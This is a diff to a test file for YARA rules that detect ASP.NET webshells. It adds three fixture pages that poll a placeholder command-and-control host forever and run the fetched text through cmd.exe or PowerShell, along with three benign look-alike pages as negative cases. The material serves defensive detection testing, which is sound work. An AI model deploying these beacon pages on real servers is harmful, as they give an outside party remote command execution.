@@ -5,13 +5,14 @@ Shapes the own rules missed on first sight (BENCHMARKS.md, "Unseen shells, ninet
 OSEP-course shellcode runner that builds its P/Invoke methods at run time with Reflection.Emit
 (``DefinePInvokeMethod``) instead of declaring them; a cheat sheet's web.config that maps an invented
 extension (``*.x``) to classic ASP; a cheat sheet's "ASPX webshell" that starts cmd.exe bare and reads its
-output in the same expression; and (batch 3) a notes file's JScript eval spelled one letter at a time. Two
-more rules give the shellcode runners of the same notes (``msfvenom -f aspx`` pages) and their socket
-reverse shells (a TcpClient page, a BlogEngine.NET theme control), which only the behaviour analysis found,
-YARA rules of their own. The rules are in ``data/rules/shellcode_runners.yar``,
-``config_build_providers.yar``, ``kit_actions.yar``, ``payload_launchers.yar`` and ``hidden_eval_code.yar``;
-the pages below reproduce the shapes and the ordinary pages closest to them. All pages were written for
-these tests: nothing is compiled or run, the "shellcode" is a few no-op bytes, the hosts and names are
+output in the same expression; (batch 3) a notes file's JScript eval spelled one letter at a time; and
+(batch 4) a C2 framework's page that polls its server forever and runs what it receives. Two more rules
+give the shellcode runners of the same notes (``msfvenom -f aspx`` pages) and their socket reverse shells (a
+TcpClient page, a BlogEngine.NET theme control), which only the behaviour analysis found, YARA rules of
+their own. The rules are in ``data/rules/shellcode_runners.yar``, ``config_build_providers.yar``,
+``kit_actions.yar``, ``payload_launchers.yar``, ``hidden_eval_code.yar`` and ``download_and_run.yar``; the
+pages below reproduce the shapes and the ordinary pages closest to them. All pages were written for these
+tests: nothing is compiled or run, the "shellcode" is a few no-op bytes, the hosts and names are
 placeholders, and none is a copy of a real shell.
 """
 
@@ -374,6 +375,65 @@ FRAGMENTED_EVAL_ORDINARY: list[Page] = [
     ),
 ]
 
+# --- a page that polls a URL forever and runs what it gets ------------------------------------------------
+POLLING_IMPLANT: list[Page] = [
+    (
+        "cs-webclient-beacon-cmd",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n  while (true) {\n"
+        '    string c = new System.Net.WebClient().DownloadString("http://192.0.2.10/task");\n'
+        '    if (c.Length > 0) System.Diagnostics.Process.Start("cmd.exe", "/c " + c);\n'
+        "    System.Threading.Thread.Sleep(30000);\n  }\n}\n</script>",
+    ),
+    (
+        "cs-webrequest-beacon-powershell-for-loop",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n  for (;;) {\n"
+        '    var r = System.Net.WebRequest.Create("https://c2.example.invalid/next").GetResponse();\n'
+        "    string c = new System.IO.StreamReader(r.GetResponseStream()).ReadToEnd();\n"
+        '    var i = new System.Diagnostics.ProcessStartInfo("powershell.exe", "-c " + c) { UseShellExecute = false };\n'
+        "    System.Diagnostics.Process.Start(i);\n    System.Threading.Thread.Sleep(60000);\n  }\n}\n</script>",
+    ),
+    (
+        "vb-upload-string-beacon",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
+        "  While True\n"
+        '    Dim c As String = New System.Net.WebClient().UploadString("http://192.0.2.10/b", Environment.MachineName)\n'
+        '    System.Diagnostics.Process.Start("cmd", "/c " + c)\n'
+        "    System.Threading.Thread.Sleep(5000)\n  End While\nEnd Sub\n</script>",
+    ),
+]
+
+POLLING_IMPLANT_ORDINARY: list[Page] = [
+    (
+        "rates-page-fetch-once",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        'string x = new System.Net.WebClient().DownloadString("https://rates.example.invalid/eur.json");\n'
+        "Rate.Text = x;\n%>",
+    ),
+    (
+        "status-poller-no-interpreter",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="Wait" %>\npublic class Wait : System.Web.IHttpHandler {\n'
+        "  public bool IsReusable { get { return false; } }\n"
+        "  public void ProcessRequest(System.Web.HttpContext c) {\n    while (true) {\n"
+        '      string st = new System.Net.WebClient().DownloadString("http://build01/status");\n'
+        '      if (st == "done") break;\n      System.Threading.Thread.Sleep(2000);\n    }\n  }\n}',
+    ),
+    (
+        "deploy-button-fixed-script",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Deploy_Click(object s, EventArgs e) {\n"
+        '  new System.Net.WebClient().DownloadFile("http://build01/app.zip", @"D:\\drop\\app.zip");\n'
+        '  System.Diagnostics.Process.Start("cmd.exe", "/c " + @"D:\\drop\\deploy.cmd");\n}\n</script>',
+    ),
+]
+
 CASES: list[RuleCase] = [
     ("EXT_WEBSHELL_Shellcode_Runner_Page", RUNNERS, RUNNERS_ORDINARY),
     ("EXT_WEBSHELL_Dynamic_PInvoke_In_Page", DYNAMIC_PINVOKE, DYNAMIC_PINVOKE_ORDINARY),
@@ -381,6 +441,7 @@ CASES: list[RuleCase] = [
     ("EXT_WEBSHELL_Bare_Interpreter_Stream_In_Page", BARE_INTERPRETER, BARE_INTERPRETER_ORDINARY),
     ("EXT_WEBSHELL_Socket_Fed_Interpreter", SOCKET_FED, SOCKET_FED_ORDINARY),
     ("EXT_WEBSHELL_JScript_Eval_Unsafe_Split", FRAGMENTED_EVAL, FRAGMENTED_EVAL_ORDINARY),
+    ("EXT_WEBSHELL_Polling_Implant_Runs_Fetched_Command", POLLING_IMPLANT, POLLING_IMPLANT_ORDINARY),
 ]
 
 test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)
